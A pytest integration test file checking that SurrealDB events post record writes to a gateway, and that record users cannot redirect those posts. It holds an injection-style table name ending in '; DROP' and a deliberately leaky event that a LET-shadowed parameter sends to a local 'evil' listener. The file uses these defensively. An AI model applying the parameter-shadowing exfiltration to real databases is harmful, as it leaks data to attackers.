"""The events of `SPKY_CAPTURE=events` posting for themselves: an engine with http, the real gateway, a real scheduler.

The engine is `@surrealdb/node`, which is large: taken from NODE_PACKAGES, and only if it is there.
"""

from __future__ import annotations

import asyncio
import json
import os
import re
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from sp00ky.deploy.surreal.install import parts
from sp00ky.deploy.surreal.triggers import UserTable, events_part
from sp00ky.gateway.config import GatewaySettings
from sp00ky.gateway.server import GatewayServer
from sp00ky.proto.database import Database
from sp00ky.proto.values.text import escape_ident
from sp00ky.scheduler.datastore.memory import MemoryDatastore

from tests.harness.eventually import eventually
from tests.harness.scheduler import Scheduler

HERE = Path(__file__).parent
PACKAGES = Path(os.environ.get("NODE_PACKAGES", "/nonexistent")) / "node_modules"
AT_HAND = shutil.which("node") is not None and (PACKAGES / "@surrealdb" / "node").is_dir()
pytestmark = [pytest.mark.npm, pytest.mark.skipif(not AT_HAND, reason="NODE_PACKAGES has no @surrealdb/node")]
ANSWER_SECONDS = 20.0
HOSTILE = "we`ird ⟩'\"\\; DROP"


@asynccontextmanager
async def engine(folder: Path) -> AsyncIterator[Any]:
    """`await run(surql)`: "done", or the refusal."""
    shutil.copy(HERE / "events.mjs", folder)
    (folder / "node_modules").symlink_to(PACKAGES.resolve())
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(
        "node", "events.mjs", cwd=folder, stdin=pipe, stdout=pipe, stderr=pipe
    )
    assert process.stdin is not None
    assert process.stdout is not None
    given, told = process.stdin, process.stdout

    async def run(surql: str) -> str:
        given.write(json.dumps(surql).encode() + b"\n")
        return str(json.loads(await asyncio.wait_for(told.readline(), ANSWER_SECONDS)))

    try:
        yield run
    finally:
        process.kill()
        await process.communicate()


async def test_a_write_posts_what_the_gateway_takes(database: Database, tmp_path: Path) -> None:
    """The tables are none of the scheduler's SurrealDB, so what is posted for them can be seen in the replica."""
    tables = [
        UserTable("person", {"n": "int", "at": "none | datetime", "boss": "none | record"}),
        UserTable(HOSTILE, {}),
    ]
    async with Scheduler(MemoryDatastore(), database) as scheduler, engine(tmp_path) as run:
        settings = GatewaySettings.model_validate({"listen_addr": "127.0.0.1:0", "auth_secret": "it's secret"})
        server = GatewayServer(settings, "scheduler", scheduler.address)
        url = await server.start()

        async def rows() -> dict[str, int]:
            headers = {"Authorization": "Bearer it's secret"}
            async with (
                aiohttp.ClientSession(url, headers=headers) as client,
                client.get("/health/snapshot") as response,
            ):
                return {name: count for name, count in (await response.json())["tables"].items() if count}

        try:
            await eventually(lambda: scheduler.driver.state == "ready", 20, what="cloned")
            versions = next(part for part in parts() if part.name == "versions")
            defined = [f"DEFINE TABLE {escape_ident(table.name)}" for table in tables]
            defined += [
                each.text for each in (*versions.definitions, *events_part(tables, url, "it's secret").definitions)
            ]
            for statement in defined:
                assert await run(statement) == "done"
            hostile = escape_ident(HOSTILE)
            assert await run("CREATE person:1 SET n = 1, at = time::now(), boss = person:2; CREATE person:2") == "done"
            assert await run(f"CREATE {hostile} SET n = 1; UPDATE person:1 SET n = 2") == "done"
            assert await rows() == {"person": 2, HOSTILE: 1}
            assert await run(f"DELETE person:2; DELETE {hostile}") == "done"
            assert await rows() == {"person": 1}
            wrong = events_part(tables, url, "another").definitions[2]
            assert await run(wrong.overwriting) == "done"
            assert (await run("CREATE person:3")).startswith("refused: ")  # the writer hears of it
            assert await rows() == {"person": 1}
        finally:
            await server.stop()


@asynccontextmanager
async def listening(posts: list[tuple[str, Any]]) -> AsyncIterator[str]:
    """The address of a server that notes who posts what."""

    async def note(request: web.Request) -> web.Response:
        posts.append((request.headers.get("Authorization", ""), await request.json()))
        return web.Response()

    app = web.Application()
    app.router.add_post("/ingest", note)
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        host, port = runner.addresses[0][:2]
        yield f"http://{host}:{port}"
    finally:
        await runner.cleanup()


async def test_what_a_record_user_lets_changes_nothing_and_reaches_nobody(tmp_path: Path) -> None:
    mesh: list[tuple[str, Any]] = []
    evil: list[tuple[str, Any]] = []
    async with listening(mesh) as url, listening(evil) as evil_url, engine(tmp_path) as run:
        versions = next(part for part in parts() if part.name == "versions")
        events = events_part([UserTable("note", {"n": "int"})], url, "it's secret")
        names = {*re.findall(r"\$(\w+)", " ".join(each.text for each in events.definitions)), "value", "this"}
        # What the attack was: it works where an event reads a parameter, so this engine would show it.
        leaky = (
            "DEFINE TABLE leaky PERMISSIONS FULL; DEFINE PARAM $there VALUE 'http://127.0.0.1:1' PERMISSIONS NONE;"
            "DEFINE EVENT e ON leaky WHEN true THEN { http::post($there + '/ingest', { leaked: true }) }"
        )
        account = "DEFINE TABLE user; DEFINE ACCESS account ON DATABASE TYPE RECORD SIGNUP (CREATE user)"
        defined = [each.text for each in (*versions.definitions, *events.definitions)]
        for statement in ("DEFINE TABLE note PERMISSIONS FULL", *defined, leaky, account, "SIGNUP account"):
            assert await run(statement) == "done"
        assert (await run("INFO FOR TABLE note")).startswith("refused: ")
        assert await run(f"LET $there = '{evil_url}'; CREATE leaky") == "done"
        assert evil == [("", {"leaked": True})]
        writes = "CREATE note:5 SET n = 1; UPDATE note:5 SET n = 2; DELETE note:5"
        for name in sorted(names - {"auth"}):
            for value in (f"'{evil_url}'", "{ id: note:5, version: 9223372036854775807 }"):
                for written in (f"LET ${name} = {value}; {writes}", f"{{ LET ${name} = {value}; {writes} }}"):
                    mesh.clear()
                    assert await run(written) == "done"
                    assert [bearer for bearer, _ in mesh] == ["Bearer it's secret"] * 3, written
                    assert [body["record"].get("_00_rv") for _, body in mesh] == [1, 2, None], written
        assert len(evil) == 1
